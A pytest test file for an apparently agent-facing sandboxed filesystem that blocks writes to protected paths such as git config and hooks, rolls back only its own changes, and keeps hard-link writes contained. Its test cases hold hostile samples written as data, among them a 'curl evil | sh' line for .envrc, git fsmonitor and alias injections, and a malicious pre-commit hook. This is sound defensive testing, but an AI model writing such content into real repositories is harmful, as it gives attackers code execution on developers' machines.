"""A shared workspace (``DirectoryFilesystem(shared=True)``): protected paths, rollback of
only its own changes, and writes that never reach another name of a file."""

from __future__ import annotations

import os
import stat
import warnings
from pathlib import Path

import pytest

from haversack.errors import ProtectedPathError, ReadOnlyFilesystemError
from haversack.filesystem import (
    DEFAULT_PROTECTED,
    ChangeJournal,
    DirectoryFilesystem,
    ProtectedPaths,
    RollbackReport,
)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "objects").mkdir()
    (root / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (root / "src").mkdir()
    (root / "src" / "main.py").write_text("print('v1')\n")
    (root / "notes.txt").write_text("notes\n")
    return root


@pytest.fixture
def fs(repo: Path):
    workspace = DirectoryFilesystem(repo, shared=True, protected=ProtectedPaths())
    yield workspace
    workspace.close()


def _tree(root: Path) -> dict[str, object]:
    out: dict[str, object] = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder, name)
            st = path.lstat()
            rel = str(path.relative_to(root))
            if stat.S_ISDIR(st.st_mode):
                out[rel] = ("dir", stat.S_IMODE(st.st_mode))
            elif stat.S_ISLNK(st.st_mode):
                out[rel] = ("link", os.readlink(path))
            else:
                out[rel] = (path.read_bytes(), stat.S_IMODE(st.st_mode))
    return out


# -- protected paths ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "protected"),
    [
        (".git", True),
        (".git/config", True),
        (".GIT/CONFIG", True),
        (".git/hooks", True),
        (".git/hooks/pre-commit", True),
        (".git/info/attributes", True),
        ("vendor/lib/.git/config", True),
        (".git/modules/sub/hooks/post-checkout", True),
        (".envrc", True),
        ("app/.vscode/tasks.json", True),
        ("my.code-workspace", True),
        (".devcontainer/devcontainer.json", True),
        (".yarnrc.yml", True),
        (".git/objects/ab/cdef", False),
        (".git/index", False),
        (".git/refs/heads/main", False),
        (".gitignore", False),
        ("src/main.py", False),
        ("docs/vscode.md", False),
    ],
)
def test_the_default_set(path: str, protected: bool):
    assert (ProtectedPaths().match(path) is not None) is protected


def test_every_default_rule_has_a_reason():
    assert all(rule.reason and rule.glob for rule in DEFAULT_PROTECTED)
    assert len({rule.glob for rule in DEFAULT_PROTECTED}) == len(DEFAULT_PROTECTED)


def test_protect_adds_and_unprotect_removes_with_a_warning():
    with pytest.warns(UserWarning, match=r"'\*\*/\.npmrc' was unprotected"):
        paths = ProtectedPaths.configured(protect=["secrets/**"], unprotect=["**/.npmrc"])
    assert paths.match("secrets/key.pem") is not None
    assert paths.match(".npmrc") is None
    assert paths.match(".git/config") is not None
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        ProtectedPaths.configured(unprotect=["**/.npmrc"])  # once per process is enough


def test_unprotecting_an_unknown_glob_is_a_precise_error():
    with pytest.raises(ValueError, match=r"Did you mean '\*\*/\.envrc'"):
        ProtectedPaths.configured(unprotect=[".envrc"])


def test_the_summary_names_the_protected_paths():
    text = ProtectedPaths.configured(protect=["deploy/*.sh"]).summary()
    assert "`.git/config`" in text
    assert "`.envrc`" in text
    assert "`deploy/*.sh`" in text


@pytest.mark.parametrize(
    "change",
    [
        lambda fs: fs.write(".git/config", "[core]\n\tfsmonitor = touch /x\n", mode="overwrite"),
        lambda fs: fs.write(".git/config", "\n[alias]\n\tx = !sh\n", mode="append"),
        lambda fs: fs.edit(".git/config", "bare = false", "bare = false\n\tfsmonitor = sh"),
        lambda fs: fs.write(".git/hooks/pre-commit", "#!/bin/sh\ntouch /tmp/pwned\n"),
        lambda fs: fs.write(".GIT/hooks/post-checkout", "x"),
        lambda fs: fs.mkdir(".git/info"),
        lambda fs: fs.write(".git/info/attributes", "* filter=evil\n"),
        lambda fs: fs.delete(".git", recursive=True),
        lambda fs: fs.delete(".git/config"),
        lambda fs: fs.write(".envrc", "curl evil | sh\n"),
        lambda fs: fs.write(".vscode/tasks.json", "{}"),
        lambda fs: fs.write("sub/.git/config", "[core]\n"),
        lambda fs: fs.write("sub/.git", "gitdir: /tmp/evil\n"),
    ],
)
def test_protected_paths_are_never_changed(fs: DirectoryFilesystem, repo: Path, change):
    before = _tree(repo)
    with pytest.raises(ProtectedPathError, match="is protected") as info:
        change(fs)
    assert isinstance(info.value, ReadOnlyFilesystemError)
    assert _tree(repo) == before


def test_a_tree_holding_a_protected_path_cannot_be_deleted(fs: DirectoryFilesystem, repo: Path):
    (repo / "tools").mkdir()
    (repo / "tools" / ".envrc").write_text("layout python\n")
    with pytest.raises(ProtectedPathError, match=r"tools/\.envrc"):
        fs.delete("tools", recursive=True)
    assert (repo / "tools" / ".envrc").exists()


def test_protected_paths_stay_readable_and_git_data_writable(fs: DirectoryFilesystem):
    assert "bare = false" in fs.read_text(".git/config")
    fs.write(".git/objects/ab", "object data")
    fs.write(".git/COMMIT_EDITMSG", "message\n")
    assert fs.read_text(".git/objects/ab") == "object data"


# -- rollback of its own changes only ----------------------------------------------------


def test_a_rollback_keeps_changes_made_by_others_meanwhile(fs: DirectoryFilesystem, repo: Path):
    mark = fs.snapshot()
    fs.write("src/main.py", "print('call')\n", mode="overwrite")
    fs.write("build/out/result.txt", "call output")
    fs.delete("notes.txt")
    # The user's editor, meanwhile: another file saved, a new one created.
    (repo / "TODO.md").write_text("- from the editor\n")
    (repo / "src" / "util.py").write_text("x = 1\n")
    report = fs.restore(mark)
    assert isinstance(report, RollbackReport)
    assert report.kept == ()
    assert (repo / "src" / "main.py").read_text() == "print('v1')\n"
    assert not (repo / "build").exists()
    assert (repo / "notes.txt").read_text() == "notes\n"
    assert (repo / "TODO.md").read_text() == "- from the editor\n"
    assert (repo / "src" / "util.py").read_text() == "x = 1\n"


def test_where_both_changed_a_path_the_other_version_wins_and_is_reported(
    fs: DirectoryFilesystem, repo: Path
):
    mark = fs.snapshot()
    fs.write("src/main.py", "print('call')\n", mode="overwrite")
    fs.write("new.txt", "call")
    (repo / "src" / "main.py").write_text("print('editor')\n")
    (repo / "new.txt").unlink()
    report = fs.restore(mark)
    assert report is not None
    assert report.kept == ("new.txt", "src/main.py")
    assert (repo / "src" / "main.py").read_text() == "print('editor')\n"
    assert not (repo / "new.txt").exists()
    assert "/workspace/src/main.py" in report.describe()


def test_a_path_changed_by_others_between_two_changes_of_the_call_stays_theirs(
    fs: DirectoryFilesystem, repo: Path
):
    """Found by the foreign-writers family: the call deletes, the editor writes, the call
    writes again, the editor deletes. The editor's deletion is the last word; undoing the
    call's first deletion would bring back a file the editor removed."""
    mark = fs.snapshot()
    fs.delete("notes.txt")
    (repo / "notes.txt").write_text("editor\n")
    fs.write("notes.txt", "call again\n", mode="overwrite")
    (repo / "notes.txt").unlink()
    report = fs.restore(mark)
    assert report is not None
    assert report.kept == ("notes.txt",)
    assert not (repo / "notes.txt").exists()


def test_a_directory_others_wrote_into_is_kept(fs: DirectoryFilesystem, repo: Path):
    mark = fs.snapshot()
    fs.write("gen/a.txt", "call")
    (repo / "gen" / "theirs.txt").write_text("theirs")
    report = fs.restore(mark)
    assert report is not None
    assert report.kept == ("gen",)
    assert not (repo / "gen" / "a.txt").exists()
    assert (repo / "gen" / "theirs.txt").read_text() == "theirs"


def test_a_deleted_tree_comes_back_exactly(fs: DirectoryFilesystem, repo: Path):
    (repo / "src" / "deep" / "er").mkdir(parents=True)
    (repo / "src" / "deep" / "er" / "x.sh").write_text("#!/bin/sh\n")
    (repo / "src" / "deep" / "er" / "x.sh").chmod(0o750)
    (repo / "src" / "deep").chmod(0o700)
    before = _tree(repo)
    mark = fs.snapshot()
    fs.delete("src", recursive=True)
    fs.write("src", "now a file")
    assert fs.restore(mark) == RollbackReport(
        restored=("src", "src/deep", "src/deep/er", "src/deep/er/x.sh", "src/main.py")
    )
    assert _tree(repo) == before


def test_two_sessions_never_undo_each_other(repo: Path):
    one = DirectoryFilesystem(repo, shared=True)
    two = DirectoryFilesystem(repo, shared=True)
    try:
        first = one.snapshot()
        one.write("one.txt", "1")
        second = two.snapshot()
        two.write("two.txt", "2")
        two.write("notes.txt", "two's notes", mode="overwrite")
        two.discard(second)  # two's call committed
        one.restore(first)  # one's call failed
        assert not (repo / "one.txt").exists()
        assert (repo / "two.txt").read_text() == "2"
        assert (repo / "notes.txt").read_text() == "two's notes"
    finally:
        one.close()
        two.close()


def test_a_committed_call_is_not_undone_by_a_later_failure(fs: DirectoryFilesystem, repo: Path):
    committed = fs.snapshot()
    fs.write("kept.txt", "committed")
    fs.discard(committed)
    failed = fs.snapshot()
    fs.write("kept.txt", "changed by the failing call", mode="overwrite")
    fs.restore(failed)
    assert (repo / "kept.txt").read_text() == "committed"


def test_records_are_freed_with_their_marks(repo: Path):
    journal = ChangeJournal(repo)
    try:
        mark = journal.mark()
        with journal.record(["notes.txt"]):
            (repo / "notes.txt").write_text("changed")
        assert len(os.listdir(journal._store)) == 1
        journal.forget(mark)
        del mark
        journal.mark()
        assert os.listdir(journal._store) == []
    finally:
        journal.close()


# -- no write reaches another name of a file -------------------------------------------------


@pytest.mark.parametrize("shared", [False, True])
@pytest.mark.parametrize(
    "change",
    [
        lambda fs: fs.write("linked.txt", "model\n", mode="overwrite"),
        lambda fs: fs.write("linked.txt", "model\n", mode="append"),
        lambda fs: fs.edit("linked.txt", "outside", "model"),
    ],
)
def test_a_hard_link_never_carries_a_write_out(tmp_path: Path, shared: bool, change):
    root = tmp_path / "ws"
    root.mkdir()
    outside = tmp_path / "store-file"
    outside.write_text("outside\n")
    outside.chmod(0o640)
    os.link(outside, root / "linked.txt")
    fs = DirectoryFilesystem(root, shared=shared)
    try:
        mark = fs.snapshot()
        change(fs)
        assert outside.read_text() == "outside\n"
        assert (root / "linked.txt").stat().st_ino != outside.stat().st_ino
        assert stat.S_IMODE((root / "linked.txt").stat().st_mode) == 0o640
        assert "model" in (root / "linked.txt").read_text()
        fs.restore(mark)
        assert (root / "linked.txt").read_text() == "outside\n"
        assert outside.read_text() == "outside\n"
    finally:
        fs.close()


def test_the_trust_boundary_page_lists_every_default_rule():
    page = (Path(__file__).parents[2] / "docs" / "trust-boundary.md").read_text()
    for rule in DEFAULT_PROTECTED:
        assert f"`{rule.glob.removeprefix('**/')}`" in page, rule.glob
        assert rule.reason in page, rule.reason


def test_the_pre_image_store_goes_to_the_workspace_filesystem(monkeypatch, tmp_path: Path):
    """/tmp and the project are often on different filesystems: pre-images are then kept
    under the cache directory when that shares the project's, so they stay hard links."""
    from haversack.filesystem import _journal

    shm = Path("/dev/shm")
    if not shm.is_dir() or shm.stat().st_dev == tmp_path.stat().st_dev:
        pytest.fail("this test needs /dev/shm on another filesystem than the temp dir")
    base = Path(_journal.tempfile.mkdtemp(dir=shm))
    try:
        (base / "ws").mkdir()
        monkeypatch.setenv("XDG_CACHE_HOME", str(base / "cache"))
        assert _journal._store_parent(str(base / "ws")) == base / "cache" / "haversack" / "journal"
        monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
        assert _journal._store_parent(str(base / "ws")) == _journal.default_storage_parent()
    finally:
        import shutil

        shutil.rmtree(base)
